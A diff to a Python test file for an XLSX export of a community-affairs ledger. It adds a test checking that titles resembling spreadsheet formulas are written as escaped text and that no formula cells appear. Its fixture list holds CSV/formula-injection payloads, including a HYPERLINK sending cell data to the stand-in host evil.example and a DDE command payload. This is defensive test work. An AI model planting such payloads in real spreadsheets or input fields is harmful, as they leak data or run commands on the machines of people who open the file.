@@ -121,3 +121,42 @@ def test_tasks_and_entrusted_answers_are_in_the_ledger_with_their_overdue_marks(
     assert answers["楼道堆物清理"]["是否逾期"] in ("是", "Yes")
     assert answers["停车位划线"]["逾期天数"] == 5  # answered 9-20, due 9-15
     assert answers["停车位划线"]["书面答复日期"].date() == date(2025, 9, 20)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(
+        city: dict[str, Any], records: dict[str, Any]) -> None:
+    from . import builders as b
+
+    for i, title in enumerate(FORMULAS):
+        b.consultation(city["a"], b.at(2025, 8, 1 + i), title=title)
+    b.task(records["t1"], records["t1"].outcome, title="=1+2", deadline=date(2025, 8, 30))
+    data = exports.ledger_xlsx(city["a"], selectors.period(YEAR))
+    wb = _workbook(data)
+    cells = {c.value: c for row in wb["议题"].iter_rows(min_row=2) for c in row
+             if isinstance(c.value, str) and c.value.startswith("'")}
+    for title in FORMULAS:
+        cell = cells["'" + title]
+        assert cell.data_type == "s", title
+    task_titles = [c for row in wb["落实任务"].iter_rows(min_row=2) for c in row
+                   if c.value == "'=1+2"]
+    assert task_titles and task_titles[0].data_type == "s"
+    # No cell anywhere in the workbook is a formula.
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+    # And the sheet XML holds no <f> element at all.
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    # Ordinary text, numbers and dates pass unchanged.
+    topics = _table(wb["议题"])
+    assert any(t["议题"] == "加装电梯" for t in topics)
+    assert all(isinstance(t["议题编号"], int) for t in topics)
